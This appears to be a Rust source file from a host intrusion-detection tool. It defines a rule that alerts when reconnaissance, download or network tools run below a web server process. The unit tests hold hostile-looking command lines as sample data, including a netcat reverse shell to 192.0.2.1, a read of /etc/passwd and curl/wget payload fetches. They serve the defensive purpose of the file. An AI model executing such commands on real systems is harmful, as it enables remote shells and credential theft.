//! server-spawned-recon: discovery, download and network tools started by a server or below a
//! server-spawned shell. Sources: Sigma proc_creation_lnx_webshell_detection (sub_processes),
//! proc_creation_lnx_system_network_discovery, proc_creation_lnx_susp_network_utilities_execution;
//! Falco suspicious_web_children and network_tool_binaries; Elastic protections
//! persistence_suspicious_web_server_child_process.

use std::mem::take;

use regex::Regex;

use super::{
    super::{
        DetectError,
        annotation::Annotation,
        family::Families,
        matcher::{ExeMatcher, effective_name, regex},
    },
    RuleCommon,
};
use crate::{
    config::ReconRuleConfig,
    lineage::{Image, Process},
};

impl super::RuleUnit for ReconRule {
    /// What alerts and metrics say about this rule.
    const META: super::RuleMeta = super::RuleMeta {
        id: "server-spawned-recon",
        name: "Reconnaissance or network tool started below a server process",
        description: "A discovery, download or network tool (id, whoami, uname, curl, wget, nc, \
        ...) was started directly by a server process or below a shell that a server \
        process started: an attacker exploring the host through a foothold.",
        category: &["process"],
        event_type: &["start"],
        server_optional: false,
    };

    fn compile(config: &crate::config::Config, families: &Families) -> Result<Self, DetectError> {
        Self::new(&config.rules.server_spawned_recon, families)
    }

    fn common(&self) -> &RuleCommon {
        &self.common
    }

    fn on_exec<'e>(&mut self, cx: &super::ExecContext<'_>, out: &mut Vec<super::Finding<'e>>) {
        if !super::below_server(&cx.process.annotation) {
            return;
        }
        // Reused buffers, lent out while `fires` borrows the rule.
        let (mut scratch, mut owners) = (take(&mut self.scratch), take(&mut self.owners));
        let fires = self.fires(cx.process, &mut scratch, &mut owners);
        (self.scratch, self.owners) = (scratch, owners);
        if fires {
            out.push(super::Finding::new(
                super::RuleId::ServerSpawnedRecon,
                cx.process.id,
                cx.ts_ns,
            ));
        }
    }
}

super::rule_section!(ReconRuleConfig);

pub struct ReconRule {
    pub common: RuleCommon,
    tools: ExeMatcher,
    args: Vec<Option<Regex>>,
    scratch: Vec<usize>,
    owners: Vec<usize>,
}

const FIELD: &str = "rules.server_spawned_recon";

impl ReconRule {
    pub fn new(config: &ReconRuleConfig, families: &Families) -> Result<Self, DetectError> {
        let tools: Vec<(usize, &str, String)> = config
            .tools
            .iter()
            .enumerate()
            .map(|(i, t)| {
                (
                    i,
                    t.executable.as_str(),
                    format!("{FIELD}.tools[{i}].executable"),
                )
            })
            .collect();
        let args = config
            .tools
            .iter()
            .enumerate()
            .map(|(i, t)| {
                t.args_pattern
                    .as_deref()
                    .map(|p| regex(p, &format!("{FIELD}.tools[{i}].args_pattern")))
                    .transpose()
            })
            .collect::<Result<_, _>>()?;
        Ok(Self {
            common: RuleCommon::compile(config, FIELD, families)?,
            tools: ExeMatcher::new_owned(&tools)?,
            args,
            scratch: Vec::new(),
            owners: Vec::new(),
        })
    }

    /// A tool anywhere below a server (started by the server, below a shell it started, or by
    /// a helper such as a script run by an application: recon, download and network tools
    /// always alert below a server); a shell below a server is the shell rule's.
    pub fn fires(
        &self,
        p: &Process<Annotation>,
        scratch: &mut Vec<usize>,
        owners: &mut Vec<usize>,
    ) -> bool {
        if !self.common.enabled || p.annotation.shell_below_server {
            return false;
        }
        self.is_tool(&p.image, scratch, owners)
    }

    pub fn is_tool(
        &self,
        image: &Image,
        scratch: &mut Vec<usize>,
        owners: &mut Vec<usize>,
    ) -> bool {
        owners.clear();
        self.tools
            .owners_into(&image.exe, effective_name(image), scratch, owners);
        if owners.is_empty() {
            return false;
        }
        // The arguments are joined only for a tool that needs its arguments checked.
        let mut joined: Option<String> = None;
        owners.iter().any(|&i| match self.args.get(i) {
            Some(Some(re)) => {
                let args = joined.get_or_insert_with(|| {
                    image.argv.get(1..).map(|a| a.join(" ")).unwrap_or_default()
                });
                re.is_match(args)
            }
            _ => true,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::DetectConfig;

    use crate::lineage::test_image as image;

    #[test]
    fn tools_and_argument_conditions() {
        let families = Families::new(&DetectConfig::default()).expect("families");
        let rule = ReconRule::new(&ReconRuleConfig::default(), &families).expect("rule");
        let (mut a, mut b) = (Vec::new(), Vec::new());
        let mut is = |exe: &str, argv: &[&str]| rule.is_tool(&image(exe, argv), &mut a, &mut b);
        assert!(is("/usr/bin/id", &["id"]));
        assert!(is(
            "/usr/bin/nc.openbsd",
            &["nc", "-e", "/bin/sh", "192.0.2.1", "4444"]
        ));
        assert!(is("/usr/bin/cat", &["cat", "/etc/passwd"]));
        assert!(!is("/usr/bin/cat", &["cat", "/var/www/html/index.html"]));
        assert!(is("/usr/bin/base64", &["base64", "-d"]));
        assert!(!is("/usr/bin/base64", &["base64", "/tmp/x"]));
        assert!(is("/bin/busybox", &["wget", "http://192.0.2.1/x"]));
        assert!(!is(
            "/usr/bin/rotatelogs",
            &["rotatelogs", "/var/log/a", "86400"]
        ));
        assert!(!is("/usr/bin/ffmpeg", &["ffmpeg", "-i", "a.mp4"]));
    }

    /// Below a helper the application runs (not a shell), a download tool still alerts.
    #[test]
    fn tools_alert_anywhere_below_a_server() {
        use crate::{
            config::Config,
            detect::{Engine, HostInfo, test_support::*},
        };
        let mut engine = Engine::new(&Config::default(), HostInfo::default()).expect("engine");
        let mut alerts = Vec::new();
        engine.process(exec(1, 10, 1, "/usr/sbin/nginx", &["nginx"]), &mut alerts);
        engine.process(
            exec(2, 11, 10, "/usr/bin/python3", &["python3", "/srv/app/thumbs.py"]),
            &mut alerts,
        );
        engine.process(
            exec(3, 12, 11, "/usr/bin/curl", &["curl", "-s", "http://192.0.2.1/x"]),
            &mut alerts,
        );
        engine.process(
            exec(4, 13, 11, "/usr/bin/convert", &["convert", "a.png", "b.jpg"]),
            &mut alerts,
        );
        let got: Vec<&str> = alerts.iter().map(|a| a.process.executable.as_str()).collect();
        assert_eq!(got, ["/usr/bin/curl"]);
        assert_eq!(alerts[0].rule.id, "server-spawned-recon");
    }
}
